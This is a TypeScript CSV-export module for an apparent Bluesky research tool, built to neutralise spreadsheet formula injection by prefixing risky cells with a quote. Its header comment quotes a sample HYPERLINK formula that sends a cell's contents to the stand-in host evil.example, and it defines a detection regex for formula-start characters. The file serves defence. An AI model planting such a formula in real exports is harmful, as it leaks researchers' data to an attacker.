// RFC 4180 CSV: fields with a comma, quote, CR or LF are quoted, quotes doubled.
// Lists are joined with '|' inside one field.
//
// CSV exports are opened in spreadsheets, and a spreadsheet runs a cell that
// starts like a formula (OWASP "CSV Injection"): anyone on Bluesky can post
// `=HYPERLINK("https://evil.example/?"&A1, "click")`, choose a handle-like link or
// a hashtag starting with '-', and have it run on a researcher's machine. So by
// default every cell that could start a formula is made inert the way OWASP
// recommends, by a leading single quote (the spreadsheet shows it as text), and
// quoted as usual. What counts (services/api/README.md, "CSV and spreadsheets"):
//   - the cell's first character is a tab or a carriage return;
//   - its first character other than whitespace or invisible formatting (spaces,
//     tabs, line breaks, zero-width characters, a BOM) is = + - or @, or one of
//     their full-width and small-form lookalikes (＝ ＋ － ＠ ﹦ ﹢ ﹣ ﹫) or the
//     minus sign −: some spreadsheets skip leading blanks, and spreadsheets in
//     East Asian locales may read full-width signs as formula signs.
// Safe cells are also quoted when they hold a ';' or a tab: spreadsheets of
// locales whose list separator is ';' split unquoted fields there, and the part
// after it would begin a cell of its own, unchecked.
//
// Every cell is checked, not only the text: handles, URIs, links, hashtags,
// languages and labels are all chosen by whoever wrote the post. The exact values
// stay available: `csv_raw=true` (plain RFC 4180, for programs), NDJSON, Parquet.

export type CsvValue = string | number | boolean | null | undefined | readonly string[];

export interface CsvOptions {
  /** Write values exactly, without the formula guard (for programs, not spreadsheets). */
  raw?: boolean;
}

/** A cell a spreadsheet could read as a formula. */
const FORMULA_START = /^(?:[\t\r]|[\s\p{Cc}\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u2212])/u;

export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text);
}

export function csvField(value: CsvValue, options: CsvOptions = {}): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'object' ? value.join('|') : String(value);
  if (options.raw) return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
  const safe = isFormulaLike(text) ? `'${text}` : text;
  return /[",;\t\r\n]/.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

export function csvLine(values: readonly CsvValue[], options: CsvOptions = {}): string {
  return `${values.map((value) => csvField(value, options)).join(',')}\r\n`;
}
